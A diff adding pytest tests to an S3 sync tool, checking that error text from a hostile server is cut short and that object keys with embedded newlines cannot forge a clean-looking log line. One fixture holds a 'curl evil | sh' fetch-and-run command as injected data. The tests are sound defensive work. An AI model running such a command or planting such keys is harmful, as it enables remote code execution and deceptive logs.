@@ -206,3 +206,30 @@ def test_kept_paths_are_data_and_shown_escaped(moto_site: S3Site, tmp_path: Path
     assert controls(ran.stderr) == []
     [kept] = json.loads(ran.stdout)["report"]["kept"]
     assert kept["path"] == "pipe\n\x1b[2J"
+
+
+def test_what_the_answer_to_a_delete_says_is_cut_and_no_code_unless_it_is_one(hostile: Stage, tmp_path: Path) -> None:
+    said = "<DeleteResult><Error><Key>data/b</Key><Code>run: curl evil | sh -- {0}</Code><Message>{0}</Message></Error>"
+    answer = said.format("it is odd, " * 5000) + "</DeleteResult>"
+    hostile(
+        {
+            "LIST": raw(200, page(element("data/a"), element("data/b", modified="2020-01-01T00:00:00Z"))),
+            "POST ?delete": raw(200, answer.encode()),
+        }
+    )
+    tree = write_tree(tmp_path / "tree", {"a": b"abc"})
+    with pytest.raises(pos3.TransferError) as failure, pos3.mirror(tmp_path / "cache", show_progress=False):
+        pos3.upload("s3://bucket/data", tree, interval=None)
+    assert "odd, it is odd" in str(failure.value)
+    assert "curl" not in str(failure.value)
+    assert len(str(failure.value)) < 2500
+
+
+@pytest.mark.parametrize("options", [["-n"], []], ids=["dry run", "sync"])
+def test_conflicts_of_a_sync_are_one_line_each(moto_site: S3Site, tmp_path: Path, options: list[str]) -> None:
+    key = "x\npos3 sync: 0 conflicts; all is well\n  y"
+    moto_site.put(f"data/{key}", b"theirs")
+    local = write_tree(tmp_path / "local", {key: b"my own"})
+    ran = run_program("sync", *options, moto_site.url("data"), "--local", local, "--cache-root", tmp_path / "cache")
+    assert "all is well" in ran.stderr
+    assert not any(line.strip() == "pos3 sync: 0 conflicts; all is well" for line in ran.stderr.splitlines())
